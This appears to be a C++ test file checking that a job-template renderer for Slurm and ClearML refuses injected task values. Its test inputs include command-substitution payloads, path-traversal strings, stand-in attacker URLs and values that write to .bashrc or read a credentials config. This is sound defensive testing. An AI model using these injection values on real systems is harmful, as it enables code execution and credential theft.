    EXPECT_FALSE(pl.roles.cut().anywhere) << form;
    EXPECT_NE(pl.roles.check("train:/tmp/evil.sh"), nullptr) << form;
    EXPECT_EQ(pl.roles.check("a:b:/tmp/evil.sh"), nullptr) << form;  // (bash's too: the relative name b:/tmp/evil.sh)
    EXPECT_EQ(pl.roles.check("train:jobs/run.sh"), nullptr) << form;
  }
  EXPECT_NE(placement(task("V=\"%X%\"\nbash \"${V##*:}\"")).roles.check("a:b:/tmp/evil.sh"), nullptr);
  // A literal start cut off: the rest meets the rule, nothing else changes.
  const auto uri = placement(task("O=\"%X%\"\nL=\"${O#file://}/logs\"\nmkdir -p \"$L\""));
  EXPECT_FALSE(uri.roles.cut().anywhere);
  EXPECT_EQ(uri.roles.check("file://scratch/run1"), nullptr);
  EXPECT_NE(uri.roles.check("file:///etc/x"), nullptr);
  // An end cut off keeps the start: only a '..' it could leave is refused.
  const auto stem = placement(task("S=\"%X%\"\nN=${S%.py}\necho x > \"$N.log\""));
  EXPECT_TRUE(stem.roles.cut().end);
  EXPECT_EQ(stem.roles.check("runs/train.py"), nullptr);
  EXPECT_NE(stem.roles.check("a/..x.py"), nullptr);
  EXPECT_FALSE(placement(task("S=\"%X%\"\nsrun python3 t.py \"${S%.py}\"")).context.dash_anywhere);
  for (const char* form : {"V=\"%X%\"\nW=${V:1}\nsrun python3 t.py \"$W\"", "V=\"%X%\"\nexport W=${V:1}\nsrun python3 t.py \"$W\"",
                           "f() { local w=${1#?}; srun python3 t.py \"$w\"; }\nf \"%X%\"",
                           "read -r A B <<< \"%X%\"\ngit fetch origin \"$B\"", "IFS=: read -r H P <<< \"%X%\"\nsrun t \"$P\"",
                           "mapfile -t -d ' ' A <<< \"%X%\"\nsrun t \"${A[1]}\"", "V=\"%X%\"\n[[ $V =~ (.*)@(.*) ]] && git fetch o \"${BASH_REMATCH[2]}\"",
                           "V=\"%X%\"\nprintf -v W \"%s\" \"${V:1}\"\nsrun python3 t.py \"$W\""})
    EXPECT_TRUE(placement(task(form)).context.dash_anywhere) << form;
  EXPECT_FALSE(placement(task("V=\"%X%\"\nW=$V\nsrun python3 t.py \"$W\"")).context.dash_anywhere);
  // ${V@E} decodes escapes: \x2d is '-'.
  for (const char* form : {"V=\"%X%\"\nsrun python3 t.py \"${V@E}\"", "S=\"%X%\"\nbash \"${S@E}\""})
    EXPECT_TRUE(placement(task(form)).context.escapes_decoded) << form;
  // What a cut value may hold: the rules of the part for every character.
  R::ElementRoles cut(R::ElementRole::Path);
  R::ValueCut anywhere;
  anywhere.anywhere = true;
  cut.add_cut(anywhere);
  for (const char* v : {"a:/etc/x", "x ~/y", "a..b", "run/1"}) EXPECT_NE(cut.check(v), nullptr) << v;
  for (const char* v : {"run-1", "file:scratch", "resnet50.log"}) EXPECT_EQ(cut.check(v), nullptr) << v;
}

TEST(ValueSinks, MoreWritersScriptsAndLoadersOfTheFourteenthReview) {
  namespace R = sg::render;
  for (const char* form : {"tar -xzf d.tgz -C%X%", "D=%X%\ntar -xzf d.tgz -C\"$D\"", "strace -f -o %X% python3 t.py",
                           "/usr/bin/time -v -o %X% python3 t.py", "perf record -o %X% python3 t.py", "flock %X% python3 t.py",
                           "valgrind --log-file=%X% ./a", "nsys profile -o %X% python3 t.py", "ncu -o %X% ./a",
                           "py-spy record -o %X% -- python3 t.py", "apptainer pull %X% docker://ubuntu", "sbcast data.tgz %X%",
                           "7z x d.7z -o%X%", "python3 -m zipfile -e d.zip %X%", "gsutil cp gs://b/x %X%",
                           "docker cp ctr:/out %X%", "git worktree add %X%"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
  for (const char* form : {"python3 -O %X%", "python3 -u -E -s %X%", "python3 -Wignore -B %X%", "python3 -X dev %X%",
                           "accelerate launch --multi_gpu --num_processes=4 %X%", "uv pip install %X%",
                           "conda env create -f %X%", "mamba env update -f %X%"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  // python -c and -m end python's own options: what follows is no script.
  EXPECT_FALSE(placement(task("python3 -uc 'import sys' %X%")).roles.has(R::ElementRole::CodePath));
  for (const char* v : {"file:///tmp/evil", "evil @ file:///tmp/evil", "git+FILE:///x"})
    EXPECT_NE(R::check_element(R::ElementRole::CodePath, v), nullptr) << v;
  EXPECT_EQ(R::check_element(R::ElementRole::CodePath, "profile:x"), nullptr);
  for (const char* form : {"export NVTX_INJECTION64_PATH=%X%", "export OCL_ICD_FILENAMES=%X%", "export VK_ICD_FILENAMES=%X%",
                           "export __EGL_VENDOR_LIBRARY_FILENAMES=%X%", "export GDAL_DRIVER_PATH=%X%", "export GTK_PATH=%X%",
                           "export MAGICK_CONFIGURE_PATH=%X%", "export RUSTC_WRAPPER=%X%", "export OCL_ICD_VENDORS=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

TEST(ValueSinks, ShellsOfCommandsAndRunnersOfTheFifteenthReview) {
  namespace R = sg::render;
  for (const char* form : {"ray job submit --working-dir . -- python3 t.py --lr %X%", "hyperfine \"python3 t.py --bs %X%\"",
                           "pueue add -- python3 t.py --lr %X%", "dvc stage add -n train python3 t.py %X%",
                           "watchexec -e py \"python3 t.py %X%\"", "ncat -l 9000 -c \"echo %X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"srun python3 -m mpi4py %X%", "compute-sanitizer --tool memcheck python3 %X%",
                           "py-spy record -o p.svg -- python3 %X%", "composer -n 8 %X%", "java -jar %X%"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  for (const char* form : {"python3 -m torch.distributed.run --nproc_per_node 2 -m %X%", "compute-sanitizer %X%",
                           "heaptrack %X%", "chronic %X%"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
}

TEST(ValueSinks, APathIsCheckedAsTheTemplateAssemblesIt) {
  namespace R = sg::render;
  const auto refuses = [](const std::string& form, const std::string& v) {
    const auto pl = placement(task(form));
    return pl.roles.check(v) != nullptr || R::check_path_sites(pl.path_sites, v, pl.roles) != nullptr;
  };
  // An empty value first, then '/': the path starts at the root.
  EXPECT_TRUE(refuses("D=\"%X%\"\nrm -rf \"$D\"/*", ""));
  EXPECT_TRUE(refuses("OUT=%X%/${SUB}\nmkdir -p \"$OUT\"", ""));
  EXPECT_TRUE(placement("#SBATCH --output=${CLEARML_TASK.name}/x.log\n").path_sites.size() == 1);
  const auto output = placement("#SBATCH --output=${CLEARML_TASK.name}/x.log\n");
  EXPECT_NE(R::check_path_sites(output.path_sites, "", output.roles), nullptr);
  // '..' made with the template's '.' or with another expansion's.
  EXPECT_TRUE(refuses("rm -rf \".cache/.%X%\"/*", "."));
  EXPECT_TRUE(refuses("echo x > \"logs/%X%${B}/f\"", "."));
  // "" or "." alone after '/': the directory around it.
  EXPECT_TRUE(refuses("find \"/scratch/runs/%X%\" -delete", "."));
  EXPECT_TRUE(refuses("R=%X%\nfind \"runs/$R\" -delete", ""));
  // Ordinary names still fit.
  for (const char* v : {"run1", "exp.3", "a/b", "v..1"}) {
    EXPECT_FALSE(refuses("D=\"%X%\"\nrm -rf \"$D\"/*", v)) << v;
    EXPECT_FALSE(refuses("find \"/scratch/runs/%X%\" -delete", v)) << v;
    EXPECT_FALSE(refuses("rm -rf \".cache/.%X%\"/*", v)) << v;
  }
  EXPECT_FALSE(refuses("echo x > \"logs/run%X%.log\"", ""));  // an optional suffix may be empty
  // A directory entered or code run may be the template's directory itself:
  // ClearML's working_dir is '.' for a script at the repository's root.
  for (const char* form : {"cd \"$SLURM_SUBMIT_DIR/repo/%X%\" && srun python3 train.py",
                           "W=\"repo/%X%\"\ncd \"$W\"\npython3 main.py", "pushd \"src/%X%\""}) {
    EXPECT_FALSE(refuses(form, ".")) << form;
    EXPECT_FALSE(refuses(form, "src/app")) << form;
    EXPECT_TRUE(refuses(form, "..")) << form;
    EXPECT_TRUE(refuses(form, "a/../..")) << form;
  }
  // slurmstepd drops every '\' of an --output, --error or --input path (attack 184).
  for (const char* form : {"#SBATCH --output=/shared/logs/%X%-%j.log", "#SBATCH --error=logs/%X%.err"}) {
    EXPECT_TRUE(refuses(form, "\\../\\../tmp/\\.pwn")) << form;
    EXPECT_TRUE(refuses(form, "a\\b")) << form;
    EXPECT_FALSE(refuses(form, "resnet50 (v2)")) << form;
  }
  EXPECT_TRUE(refuses("srun --output=\"logs/%X%.out\" python3 t.py", "\\..\\x"));
  // ... and expands %x, %u, %N in it (attack 185).
  EXPECT_TRUE(refuses("#SBATCH --output=%X%", "%x"));
  EXPECT_TRUE(refuses("#SBATCH --output=logs/%X%-%j.log", "a%u"));
  // Pyxis writes a mount into a line of enroot's configuration bash runs (attack 185).
  for (const char* form : {"srun --container-mounts=\"/lustre/datasets/%X%:/data:ro\" true",
                           "#SBATCH --container-mounts=/lustre/%X%:/data"}) {
    EXPECT_TRUE(refuses(form, "imagenet$(touch PWNED)")) << form;
    EXPECT_TRUE(refuses(form, "a`id`")) << form;
    EXPECT_TRUE(refuses(form, "a\"b")) << form;
    EXPECT_FALSE(refuses(form, "imagenet-1k")) << form;
  }
  // make -C DIR: the directory whose makefile runs, as cd's (attack 181).
  for (const char* form : {"make -C \"experiments/%X%\" all", "make --directory=\"experiments/%X%\" all",
                           "make -sC \"experiments/%X%\""}) {
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
    EXPECT_FALSE(refuses(form, "resnet50")) << form;
    EXPECT_TRUE(refuses(form, "../x")) << form;
  }
  EXPECT_TRUE(refused(task("make -C src \"%X%\""), "value-parsed-as-code"));
  // source of a file the template's path names: code a value chooses among
  // the template's, as bash FILE's (fr hunt 77); a bare name is PATH's.
  for (const char* form : {"source \"venvs/%X%/bin/activate\"", ". \"/opt/venvs/%X%/bin/activate\"",
                           "source \"envs/%X%.sh\" --quiet", "E=\"%X%\"\nsource \"venvs/${E}/bin/activate\""}) {
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
    EXPECT_FALSE(refuses(form, "torch-2.3")) << form;
    EXPECT_TRUE(refuses(form, "../../x")) << form;
    EXPECT_TRUE(refuses(form, ".hidden")) << form;
  }
  for (const char* form : {"source \"%X%\"", "source \"%X%/bin/activate\"", ". %X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // cd -- "-" is $OLDPWD (attack 183).
  for (const char* form : {"cd -- \"%X%\"\npython3 -m trainer.fit", "R=\"%X%\"\nmkdir -p -- \"$R\"\ncd -- \"$R\"\npython3 -m trainer.fit",
                           "pushd -- \"%X%\""}) {
    EXPECT_TRUE(refuses(form, "-")) << form;
    EXPECT_FALSE(refuses(form, "run-1")) << form;
  }
  // pushd reads +N as a turn of its stack (attack 181).
  EXPECT_TRUE(refuses("pushd \"%X%\"\nsrun python3 train.py", "+1"));
  EXPECT_FALSE(refuses("pushd \"%X%\"\nsrun python3 train.py", "src+v2"));
  EXPECT_FALSE(refuses("pushd \"repo/%X%\"\nsrun python3 train.py", "+1"));
  // Other directories entered and code run keep the rule (the template's
  // relative names there are not followed).
  for (const char* form : {"srun --chdir=\"runs/%X%\" rm -rf ./*", "env -C \"runs/%X%\" rm -rf ./*",
                           "#SBATCH --chdir=/scratch/runs/%X%\nrm -rf ./*", "srun python3 \"code/%X%/main.py\""}) {
    EXPECT_TRUE(refuses(form, ".")) << form;
    EXPECT_FALSE(refuses(form, "run1")) << form;
  }
  // ... unless the template then climbs from it or clears it by relative
  // names: '.' would be the directory around (attack 182).
  for (const char* form : {"cd \"$ROOT/repo/experiments/%X%\"\nsrun python3 ../../train.py",
                           "cd \"$SCRATCH/runs/%X%\" || exit 1\nrm -rf -- ./*",
                           "cd \"$SCRATCH/runs/%X%\"\nfind . -mindepth 1 -delete"}) {
    EXPECT_TRUE(refuses(form, ".")) << form;
    EXPECT_FALSE(refuses(form, "bert-base")) << form;
  }
  // ... unless the job also writes there.
  EXPECT_TRUE(refuses("W=\"runs/%X%\"\ncd \"$W\"\nrm -rf \"$W\"", "."));
}

TEST(ValueSinks, WhatARewriteOfTheTemplateMakesOfAValueMeetsTheRules) {
  namespace R = sg::render;
  // ${V//./\/}: the replacement is made, then checked.
  const auto mod = placement(task("M=\"%X%\"\nsrun python3 \"${M//.//}.py\""));
  EXPECT_EQ(mod.roles.check("configs.base"), nullptr);
  EXPECT_NE(mod.roles.check(".tmp.evil"), nullptr);
  EXPECT_NE(placement(task("R=\"%X%\"\necho x >> \"${R//.//}.log\"")).roles.check(".work.x"), nullptr);
  // ${V//_/-} where an argument begins: what becomes '-' is refused too.
  const auto opt = placement(task("K=\"%X%\"\nsrun python3 t.py \"${K//_/-}\"")).context;
  ASSERT_FALSE(opt.start_replacements.empty());
  EXPECT_EQ(opt.start_replacements.front().size(), 1u);
  EXPECT_NE(R::later_use_check("__config", opt), nullptr);
  EXPECT_EQ(R::later_use_check("learning_rate", opt), nullptr);
  EXPECT_EQ(R::ValueCut::replaced({{".", "/", '/'}, {"x", "", '#'}}, "xa.b.c"), "a/b/c");
  // tr and sed that write '/', '.', '~' or '-' make any path: refused at compile time.
  for (const char* form : {"E=$(echo \"%X%\" | tr . /).py\nsrun python3 \"$E\"", "E=\"$(sed 's|\\.|/|g' <<< \"%X%\").py\"\nbash \"$E\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("D=runs/$(echo \"%X%\" | tr ' ' '_')\nmkdir -p \"$D\"")).empty());
}

TEST(ValueSinks, InterpretersFoundAtRunTimeContainerShellsPatternsAndDeletionsOfTheSixteenthReview) {
  namespace R = sg::render;
  for (const char* form : {"\"$(command -v python3)\" - <<EOF\nprint(\"%X%\")\nEOF", "PY=$(type -P python3)\n\"$PY\" - <<EOF\nprint(\"%X%\")\nEOF",
                           "$RUNNER <<EOF\necho %X%\nEOF", "apptainer shell img.sif <<EOF\necho \"%X%\"\nEOF",
                           "singularity run img.sif <<< \"echo %X%\"", "docker run -i ubuntu <<EOF\necho %X%\nEOF"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(rules(task("PY=$(command -v python3)\n\"$PY\" train.py --name \"%X%\"")).empty());
  EXPECT_TRUE(placement(task("find ckpt -name \"%X%_*.pt\" -delete")).roles.has(R::ElementRole::Pattern));
  EXPECT_TRUE(placement(task("gsutil -m rm -r \"gs://b/runs/%X%\"")).roles.has(R::ElementRole::Pattern));
  EXPECT_NE(R::check_element(R::ElementRole::Pattern, "*"), nullptr);
  EXPECT_EQ(R::check_element(R::ElementRole::Pattern, "exp1"), nullptr);
  EXPECT_TRUE(placement("#SBATCH --nodelist=${CLEARML_TASK.name}\n").roles.has(R::ElementRole::NodeList));
  EXPECT_NE(R::check_element(R::ElementRole::NodeList, "/etc/hosts"), nullptr);
  EXPECT_EQ(R::check_element(R::ElementRole::NodeList, "node[01-04]"), nullptr);
  // Deletions and bracket classes: made exactly where the template writes them, else no two dots.
  const auto blank = placement(task("E=\"%X%\"\nE=${E// /}\nmkdir -p \"scratch/$E\""));
  EXPECT_NE(blank.roles.check(". ."), nullptr);
  EXPECT_EQ(blank.roles.check("my exp.v1.2"), nullptr);
  const auto cls = placement(task("S=\"%X%\"\nbash \"${S//[.:]//}.sh\""));
  EXPECT_NE(cls.roles.check(":tmp:evil"), nullptr);
  EXPECT_EQ(cls.roles.check("stage.one"), nullptr);
  // A character beyond ASCII is one character to the class, as in bash's UTF-8 locale.
  EXPECT_NE(placement(task("S=\"%X%\"\nmkdir -p \"runs/${S//[^a-z]/.}\"")).roles.check("\xc3\xa9\xc3\xa9"), nullptr);
  const auto tr = placement(task("W=scratch/$(tr -dc 'a-z.' <<< \"%X%\")\nmkdir -p \"$W\""));
  EXPECT_EQ(tr.roles.cut().made("a b.C"), std::vector<std::string>{"ab."});  // tr -dc SET: what is outside the set goes
  EXPECT_NE(tr.roles.check(". ."), nullptr);
  EXPECT_EQ(tr.roles.check("exp.v1"), nullptr);
  const auto dash = placement(task("R=\"%X%\"\nsrun python3 t.py --run-name \"${R//[^A-Za-z0-9]/-}\"")).context;
  EXPECT_NE(R::later_use_check("  resume", dash), nullptr);
  EXPECT_EQ(R::later_use_check("exp.v1", dash), nullptr);
}

TEST(ValueSinks, AFileNamedByAValuesLastPartIsNoCode) {
  namespace R = sg::render;
  for (const char* form : {"wget -q \"%X%\"", "curl -sSLO \"%X%\"", "curl --remote-name \"%X%\"", "wget -P job \"%X%\"",
                           "aws s3 cp \"%X%\" ./", "cp \"%X%\" job", "install -m 0644 \"%X%\" job/"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::FileName)) << form;
  EXPECT_FALSE(placement(task("wget -O data.tgz \"%X%\"")).roles.has(R::ElementRole::FileName));
  // (A copy's too: cp "/shared/datasets/${V}" . with alice/preprocess.py; attack 210.)
  for (const char* v : {"https://evil.example/pip.py", "https://h/setup_env.sh?x=1", "https://h/requirements.txt",
                        "/tmp/drop/setup_env.sh", "scripts/train.py", "alice/preprocess.py"})
    EXPECT_NE(R::check_element(R::ElementRole::FileName, v), nullptr) << v;
  EXPECT_FALSE(placement(task("cp \"%X%\" run.sh")).roles.has(R::ElementRole::FileName));
  for (const char* v : {"https://data.example.com/cifar10.tar.gz", "/data/imagenet/train.tar", "configs/a.yaml"})
    EXPECT_EQ(R::check_element(R::ElementRole::FileName, v), nullptr) << v;
}

// The twentieth review: programs that read operators after "--", bash's
// message catalogues, settings read in any case, interpreter options that
// become code, inline-code URLs, URLs programs expand, the name a program
// runs under, files of commands, and items of Slurm's list options.
TEST(ValueSinks, OperatorsCataloguesImportsGlobsNamesAndListsOfTheTwentiethReview) {
  namespace R = sg::render;
  // find's "--" ends only -H/-L/-P: a value after it may still be a test or an action.
  for (const char* form : {"find -- %X% -name '*.ckpt' -print", "find -- ckpt %X% -print"}) {
    const auto c = placement(task(form)).context;
    EXPECT_TRUE(c.begins_argument && !c.option_takes_value) << form;
  }
  EXPECT_TRUE(placement(task("find %X% -name x -delete")).roles.has(R::ElementRole::FindStart));
  EXPECT_FALSE(placement(task("find ./%X% -delete")).roles.has(R::ElementRole::FindStart));
  EXPECT_NE(R::check_element(R::ElementRole::FindStart, "!"), nullptr);
  EXPECT_EQ(R::check_element(R::ElementRole::FindStart, "ckpt"), nullptr);
  // Variables that load code, in the case the program reads them.
  for (const char* form : {"export TEXTDOMAINDIR=%X%", "export npm_config_script_shell=%X%",
                           "export Yarn_Rc_Filename=%X%", "export LESSKEYIN=%X%", "export HGRCPATH=%X%",
                           "export SCONSFLAGS=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_FALSE(sg::render::is_code_variable("npm_version"));
  // perl -M/-m/-d:/-F become source text; python -W imports a dotted category's module.
  for (const char* form : {"perl -M\"%X%\" post.pl", "perl -M \"%X%\" post.pl", "perl -m%X% post.pl",
                           "perl -d:%X% post.pl", "perl -lanF\"%X%\" -e 'print $F[0]' f"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  const auto w = placement(task("python3 -W \"%X%\" train.py"));
  EXPECT_TRUE(w.roles.has(R::ElementRole::WarningFilter));
  EXPECT_TRUE(w.context.option_takes_value);
  EXPECT_NE(w.roles.check("ignore::this.Warning"), nullptr);
  EXPECT_NE(placement(task("python3 -W \"ignore::%X%\" t.py")).roles.check("os.Warning"), nullptr);
  EXPECT_EQ(w.roles.check("ignore::DeprecationWarning:torch.distributed"), nullptr);
  EXPECT_EQ(w.roles.check("error"), nullptr);
  // A code path given as a data: URL is the code itself.
  EXPECT_TRUE(refused(task("node --import=\"%X%\" export.mjs"), "placeholder-command"));
  // curl and wget expand {a,b}, [1-9] and ftp '*' in URLs, not in other options' values.
  for (const char* form : {"curl -fsSLO \"%X%\"", "curl -o out.tgz \"%X%\"", "wget -q \"%X%\"", "curl --url \"%X%\""})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::UrlGlob)) << form;
  for (const char* form : {"curl -g -O \"%X%\"", "curl -F \"text=%X%\" https://h", "curl -H \"X-Run: %X%\" https://h",
                           "wget -O \"%X%\" https://h/a.tgz"})
    EXPECT_FALSE(placement(task(form)).roles.has(R::ElementRole::UrlGlob)) << form;
  EXPECT_NE(R::check_element(R::ElementRole::UrlGlob, "https://h/prepare.s[h-h]"), nullptr);
  EXPECT_EQ(R::check_element(R::ElementRole::UrlGlob, "https://h/a.tgz?x=1&y=2"), nullptr);
  // exec -a: no '/' (python finds its prefix from it), no '-' (a login shell);
  // a multi-call program would run as what the value names.
  const auto a = placement(task("exec -a \"%X%\" /usr/bin/python3 train.py"));
  EXPECT_NE(a.roles.check("/tmp/venv/bin/python3"), nullptr);
  EXPECT_NE(a.roles.check("-bash"), nullptr);
  EXPECT_EQ(a.roles.check("train-resnet50"), nullptr);
  EXPECT_FALSE(rules(task("exec -a \"%X%\" busybox ls")).empty());
  // Files whose contents run commands are named like code.
  for (const char* form : {"less -F --lesskey-src=\"%X%\" s.txt", "less -k \"%X%\" s.txt", "less -k%X% s.txt",
                           "cmake -P \"%X%\"", "openssl req -config \"%X%\" -new", "wget --config=\"%X%\" https://h/a"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  for (const char* form : {"ssh -F \"%X%\" host true", "make -f \"%X%\" all", "tmux -f \"%X%\" new -d"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  EXPECT_FALSE(rules(task("pytest -p \"%X%\" tests")).empty());
  // A value filling part of a Slurm list option stays inside its item; the
  // whole option's value is the list the template asks for.
  for (const char* line : {"#SBATCH --dependency=afterok:${CLEARML_TASK.name}\n",
                           "#SBATCH --constraint=\"a100&${CLEARML_TASK.name}\"\n", "#SBATCH -L matlab:${CLEARML_TASK.name}\n",
                           "#SBATCH --array=0-${CLEARML_TASK.name}\n", "#SBATCH --partition=${CLEARML_TASK.name},debug\n"})
    EXPECT_TRUE(placement(line).roles.has(R::ElementRole::SlurmListPart)) << line;
  EXPECT_FALSE(placement("#SBATCH --gres=${CLEARML_TASK.name}\n").roles.has(R::ElementRole::SlurmListPart));
  // A GPU item's type and count (gpu:${...} with a100:2) stay in the item.
  for (const char* line : {"#SBATCH --gres=gpu:${CLEARML_TASK.name}\n", "#SBATCH --gpus-per-node=${CLEARML_TASK.name}:a100\n"})
    EXPECT_TRUE(placement(line).roles.has(R::ElementRole::GresPart)) << line;
  EXPECT_EQ(R::check_element(R::ElementRole::GresPart, "a100:2"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::GresPart, "2,shard:1"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::GresPart, "2 --hold"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::SlurmListPart, "1,gpu:a100:8"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::SlurmListPart, "123?afterany:7"), nullptr);
  EXPECT_EQ(R::check_element(R::ElementRole::SlurmListPart, "8"), nullptr);
}

// The twenty-first review: output files named in an option's own word,
// programs reached through python -m, build files, query languages, and
// more of Slurm's list options (srun's own among them).
TEST(ValueSinks, OptionWordsModulesQueryLanguagesAndListsOfTheTwentyFirstReview) {
  namespace R = sg::render;
  for (const char* form : {"sort -u m.txt -o\"%X%\"", "shuf --output=\"%X%\" m.txt", "iconv -f utf8 -t ascii --output=\"%X%\" a",
                           "cp model.pt -t\"%X%\"", "tar -czf\"%X%\" results", "curl -o\"%X%\" https://h/a",
                           "wget -O\"%X%\" https://h/a", "gpg -o \"%X%\" -d a.gpg", "patch \"%X%\" < fix.diff"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
  for (const char* form : {"python3 -m pip install \"%X%\"", "python3 -u -m pip install -r \"%X%\"", "ninja -f \"%X%\"",
                           "ninja -C\"%X%\"", "cmake -S\"%X%\" -B build"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  EXPECT_FALSE(rules(task("python3 -m pytest -p \"%X%\" tests")).empty());
  for (const char* form : {"yq -y -i \".lr = \\\"%X%\\\"\" c.yaml", "mlr -I --icsv put '$lr = \"%X%\"' r.csv",
                           "jsonnet --tla-code lr=\"%X%\" c.jsonnet", "ansible all -m shell -a \"echo %X%\"",
                           "mongosh --eval \"db.x.find({a: '%X%'})\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("jq -n --arg v \"%X%\" '{a: $v}'")).empty());
  EXPECT_TRUE(placement(task("helm upgrade r c --set image.tag=%X%")).roles.has(R::ElementRole::ListItem));
  for (const char* line : {"#SBATCH --mail-user=${CLEARML_TASK.name}@corp\n", "#SBATCH --bb=\"capacity=${CLEARML_TASK.name}\"\n",
                           "#SBATCH --prefer=a100&${CLEARML_TASK.name}\n", "#SBATCH --acctg-freq=task=${CLEARML_TASK.name}\n",
                           "#SBATCH --container-name=${CLEARML_TASK.name}\n", "srun --cpu-bind=map_cpu:${CLEARML_TASK.name} true\n",
                           "srun --gpu-bind=map_gpu:${CLEARML_TASK.name} true\n"})
    EXPECT_TRUE(placement(line).roles.has(R::ElementRole::SlurmListPart)) << line;
  EXPECT_NE(R::check_element(R::ElementRole::SlurmListPart, "1G access_mode=private"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::SlurmListPart, "shared:exec"), nullptr);
}

// The twenty-second review: options that name code or programs (git's
// templates, cmake's -D, compilers' program directories, plugins and
// specs), files written by more options and builtins, and names that
// rsync, scp and rclone read as another host or backend.
TEST(ValueSinks, ProgramDirectoriesWrittenFilesAndRemoteNamesOfTheTwentySecondReview) {
  namespace R = sg::render;
  for (const char* form : {"git clone --template=\"%X%\" https://h/r.git src", "cmake -DCMAKE_PREFIX_PATH=\"%X%\" -S . -B b",
                           "cmake -D Torch_DIR=\"%X%\" ..", "nvcc -ccbin \"%X%\" k.cu", "gcc -B\"%X%\" a.c",
                           "gcc -specs=\"%X%\" a.c", "clang -fplugin=\"%X%\" a.c", "module load-any \"%X%\"",
                           "spark-submit --jars \"%X%\" app.py"})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::CodePath)) << form;
  for (const char* form : {"unzip data.zip -d\"%X%\"", "tar -xf d.tar --one-top-level=\"%X%\"", "7z a \"%X%\" results",
                           "git clone --separate-git-dir=\"%X%\" https://h/r.git src", "history -w \"%X%\"",
                           "uv venv \"%X%\""})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::Path)) << form;
  for (const char* form : {"rsync -a out/ \"%X%\"", "scp out.tgz \"%X%\"", "rclone copy out \"%X%\""})
    EXPECT_TRUE(placement(task(form)).roles.has(R::ElementRole::LocalName)) << form;
  EXPECT_NE(R::check_element(R::ElementRole::LocalName, ":local:/etc"), nullptr);
  EXPECT_NE(R::check_element(R::ElementRole::LocalName, "node7:/home/glue"), nullptr);
  EXPECT_EQ(R::check_element(R::ElementRole::LocalName, "runs/exp:1"), nullptr);
  EXPECT_EQ(placement(task("cmake -DCMAKE_BUILD_TYPE=%X% ..")).roles.check("Release"), nullptr);
}

TEST(ValueSinks, MakeVariablesAndMountSourcesOfTheTwentyThirdReview) {
  namespace R = sg::render;
  // make reads every environment variable as a make variable and expands it.
  for (const char* form : {"export LR=@\nmake train", "LR=@ make train", "env LR=@ make -C src",
                           "export LR=\"@\"\ngmake"})
    EXPECT_TRUE(placement(with(form)).roles.has(R::ElementRole::MakeVariable)) << form;
  EXPECT_FALSE(placement(with("make train\necho @")).roles.has(R::ElementRole::MakeVariable));
  // The host side of a mount a template writes: no system directory, however spelled.
  for (const char* form : {"docker run -v \"%X%\":/data img true", "docker run --volume=\"%X%\":/d img true",
                           "apptainer exec --bind \"%X%\":/d img.sif true", "singularity exec -B \"%X%\" img.sif true"}) {
    std::string body = form;
    body.replace(body.find("%X%"), 3, kName);
    const auto p = placement(body + "\n");
    EXPECT_TRUE(p.roles.has(R::ElementRole::MountSource) || p.roles.has(R::ElementRole::Mount)) << form;
    for (const char* bad : {"/root", "/./etc", "//etc", "/var/run", "/", "/usr/./lib", "/etc:/e", "data/../../etc"})
      EXPECT_NE(p.roles.check(bad), nullptr) << form << " " << bad;
    EXPECT_EQ(p.roles.check("/datasets/imagenet"), nullptr) << form;
  }
  // Round 111: a value inside a mount (not the whole of it) chooses no target or flags.
  for (const char* form : {"singularity exec --bind /data/%X% img.sif true", "apptainer exec -B/data/%X%:/d img.sif true",
                           "docker run -v \"%X%\":/data img true"}) {
    const auto p = placement(task(form));
    EXPECT_NE(p.roles.check("imagenet:/opt/conda/bin"), nullptr) << form;
    EXPECT_NE(p.roles.check("imagenet,/home"), nullptr) << form;
    EXPECT_EQ(p.roles.check("imagenet"), nullptr) << form;
  }
  EXPECT_EQ(placement(task("singularity exec --bind \"%X%\" img.sif true")).roles.check("/data/a:/data"), nullptr);
  // curl -w reads '@FILE' as its format's file and writes '%output{FILE}'.
  for (const char* form : {"curl -w \"code %{http_code} %X%\" https://h/x", "curl --write-out=%X% https://h/x",
                           "curl -s -w%X% https://h/x"}) {
    std::string body = form;
    body.replace(body.find("%X%"), 3, kName);
    const auto p = placement(body + "\n");
    EXPECT_NE(p.roles.check("%output{>>/home/glue/.bashrc}"), nullptr) << form;
    EXPECT_NE(p.roles.check("@/home/glue/.clearml.conf"), nullptr) << form;
    EXPECT_EQ(p.roles.check("run 7"), nullptr) << form;
  }
  // Inside --container-mounts too (a value that starts the item).
  const auto sbatch = placement("#SBATCH --container-mounts=${CLEARML_TASK.name}:/data\n");
  for (const char* bad : {"/root", "/./etc", "/var/run/docker.sock"}) EXPECT_NE(sbatch.roles.check(bad), nullptr) << bad;
